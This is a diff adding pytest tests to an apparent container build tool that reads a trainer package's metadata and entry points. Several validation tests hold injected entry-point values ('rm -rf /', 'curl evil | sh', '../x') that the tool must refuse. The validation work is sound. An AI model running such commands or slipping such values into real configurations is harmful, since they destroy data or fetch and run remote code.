@@ -209,3 +209,113 @@ def test_an_unpinned_framework_with_a_python_gets_its_newest_release_for_that_py
     assert out["inferred"]["framework"] == out["plan"]["framework"]["requirement"], out["inferred"]
     assert out["plan"]["python"]["version"] == "3.8"
     assert dry(root)["inferred"]["framework"] == "xgboost"  # no Python given: the plan resolves it
+
+
+# ---------------------------------------------------------------------------------------------
+# The trainer's own distribution: its metadata installed before the code layer (trainer_package)
+
+SETUP_PY = ("from setuptools import find_packages, setup\n\nREQUIRED_PACKAGES = ['six==1.16.0']\n\n"
+            "setup(name='census-trainer', version='0.3.1', packages=find_packages(), install_requires=REQUIRED_PACKAGES,\n"
+            "      package_data={'trainer': ['vocab.txt']},\n"
+            "      entry_points={'console_scripts': ['census-train = trainer.task:main']})\n")
+TASK = ("import importlib.resources\nimport six\nfrom importlib.metadata import entry_points, version\n\n\n"
+        "def main():\n    print('SCRIPT RAN', version('census-trainer'))\n\n\n"
+        "if __name__ == '__main__':\n"
+        "    vocab = importlib.resources.files('trainer').joinpath('vocab.txt').read_text().strip()\n"
+        "    scripts = [e.name for e in entry_points(group='console_scripts') if e.value.startswith('trainer.')]\n"
+        "    print('VERSION', version('census-trainer'), 'VOCAB', vocab, 'SCRIPTS', scripts, 'SIX', six.__version__)\n")
+
+
+@pytest.mark.parametrize("files,entry_points", [
+    ({"setup.py": SETUP_PY}, {"console_scripts": ["census-train = trainer.task:main"]}),
+    ({"setup.cfg": "[metadata]\nname = census-trainer\nversion = 0.3.1\n[options]\ninstall_requires =\n  six==1.16.0\n"
+                   "[options.entry_points]\nconsole_scripts =\n  census-train = trainer.task:main\n",
+      "setup.py": "from setuptools import setup\nsetup()\n"}, {"console_scripts": ["census-train = trainer.task:main"]}),
+    ({"pyproject.toml": '[project]\nname = "census-trainer"\nversion = "0.3.1"\ndependencies = ["six==1.16.0"]\n'
+                        '[project.scripts]\ncensus-train = "trainer.task:main"\n'
+                        '[project.entry-points."census.plugins"]\nbasic = "trainer.task"\n'},
+     {"console_scripts": ["census-train = trainer.task:main"], "census.plugins": ["basic = trainer.task"]}),
+])
+def test_a_package_trainer_gets_its_metadata_and_entry_points_from_each_layout(project, files, entry_points):
+    root = project({"trainer/__init__.py": "", "trainer/task.py": TASK, **files})
+    inferred = dry(root)["inferred"]
+    assert inferred["config_keys"]["trainer_package"] == {"name": "census-trainer", "version": "0.3.1",
+                                                          "entry_points": entry_points}, inferred
+    assert inferred["pip"] == ["six==1.16.0"]
+    assert any("is installed before the code layer" in n for n in inferred["notes"])
+
+
+def test_a_computed_version_is_said_and_nothing_of_the_package_is_installed(project):
+    root = project({"trainer/__init__.py": "__version__ = '1.0'\n", "trainer/task.py": "print(1)\n",
+                    "setup.py": "from setuptools import setup\nfrom trainer import __version__\n"
+                                "setup(name='t', version=__version__, install_requires=['six'])\n"})
+    inferred = dry(root)["inferred"]
+    assert "trainer_package" not in inferred["config_keys"]
+    assert any("its version are computed by its build and were not read" in n for n in inferred["notes"]), inferred
+
+
+def test_the_metadata_layer_sits_below_the_code_layer_the_fast_path_replaces(project):
+    from buildkit_py.fastpath import code_step
+
+    root = project({"trainer/__init__.py": "", "trainer/task.py": TASK, "setup.py": SETUP_PY,
+                    "buildkit.yaml": "trainer:\n  module: trainer.task\ntrainer_package: {name: census-trainer, "
+                                     "version: 0.3.1, entry_points: {console_scripts: ['census-train = trainer.task:main']}}\n"})
+    proc = run_cli("dockerfile", "--dir", str(root))
+    assert proc.returncode == 0, proc.stderr
+    text = proc.stdout
+    assert text.index("buildkit_launcher.distinfo") < text.index("COPY . /app")
+    assert code_step(text).instruction == "COPY . /app"
+
+
+@pytest.mark.parametrize("value,fragment", [
+    ("trainer_package: census\n", "must be a mapping"),
+    ("trainer_package: {name: t}\n", "needs its version"),
+    ("trainer_package: {version: '1'}\n", "needs its name"),
+    ("trainer_package: {name: 't t', version: '1'}\n", "not a valid distribution name"),
+    ("trainer_package: {name: t, version: 'one'}\n", "not a PEP 440 version"),
+    ("trainer_package: {name: t, version: '1', extra: 1}\n", "extra"),
+    ("trainer_package: {name: t, version: '1', entry_points: [a]}\n", "must be a mapping of at most"),
+    ("trainer_package: {name: t, version: '1', entry_points: {'a b': []}}\n", "not an entry point group name"),
+    ("trainer_package: {name: t, version: '1', entry_points: {g: 'x = y:z'}}\n", "must be a list"),
+    ("trainer_package: {name: t, version: '1', entry_points: {g: ['x = y:z; rm -rf /']}}\n", "is not an entry point"),
+    ("trainer_package: {name: t, version: '1', entry_points: {g: [\"x = y:z'\"]}}\n", "is not an entry point"),
+    ("trainer_package: {name: t, version: '1', entry_points: {console_scripts: ['../x = y:z']}}\n", "is not an entry point"),
+    ("trainer_package: {name: t, version: '1', entry_points: {console_scripts: ['x = y']}}\n", "is not a script"),
+    ("trainer_package: {name: t, version: '1', entry_points: {g: ['x = y:z\\u2028']}}\n", "trainer_package"),
+    ("trainer_package: {name: t, version: '1', entry_points: {g: ['" + "x" * 600 + " = y:z']}}\n", "trainer_package"),
+    ("trainer_package: {name: t, version: '1', entry_points: {g: " + str(["a = b:c"] * 201) + "}}\n", "at most 200"),
+])
+def test_hostile_trainer_package_values_exit_2_naming_the_field(project, value, fragment):
+    root = project({"trainer/__init__.py": "", "trainer/task.py": "", "buildkit.yaml": "trainer:\n  module: trainer.task\n"
+                    + value})
+    proc = run_cli("dockerfile", "--dir", str(root))
+    assert proc.returncode == 2 and "Traceback" not in proc.stderr, proc.stderr
+    assert "trainer_package" in proc.stderr and fragment in proc.stderr, proc.stderr
+
+
+def test_hostile_entry_points_in_setup_py_are_refused_naming_the_field(project):
+    root = project({"trainer/__init__.py": "", "trainer/task.py": "",
+                    "setup.py": "from setuptools import setup\nsetup(name='t', version='1', install_requires=[],\n"
+                                "      entry_points={'console_scripts': ['x = y:z; curl evil | sh']})\n"})
+    err = refused(root)
+    assert "trainer_package" in err and "is not an entry point" in err, err
+
+
+def test_the_image_has_the_trainers_metadata_scripts_and_package_data(testenv, project, tmp_path):
+    """gcloud's `pip install .` on the real engine: importlib.metadata finds the package, its console script runs,
+    its package data is beside its code, `python -m trainer.task` runs the copied code."""
+    root = project({"trainer/__init__.py": "", "trainer/task.py": TASK, "trainer/vocab.txt": "words\n",
+                    "setup.py": SETUP_PY})
+    registry = testenv["BUILDKIT_TEST_REGISTRY"]
+    env = {**testenv, "BUILDKIT_PY_DOCKER": testenv["BUILDKIT_DOCKER"], "XDG_CACHE_HOME": str(tmp_path / "cache")}
+    proc = run_cli("autopackage", str(root), "--image", f"{registry}/autopkg-own/trainer", "--json", env=env)
+    assert proc.returncode == 0, proc.stderr[-3000:]
+    out = json.loads(proc.stdout)
+    assert out["run"]["exit_code"] == 0
+    assert "VERSION 0.3.1 VOCAB words SCRIPTS ['census-train'] SIX 1.16.0" in proc.stderr, proc.stderr[-2000:]
+    import subprocess
+
+    script = subprocess.run([testenv["BUILDKIT_DOCKER"], "run", "--rm", "--network", "none", "--entrypoint",
+                             "census-train", out["image"]], capture_output=True, text=True,
+                            env={"DOCKER_HOST": testenv["DOCKER_HOST"]}, timeout=120)
+    assert script.returncode == 0 and "SCRIPT RAN 0.3.1" in script.stdout, script.stderr
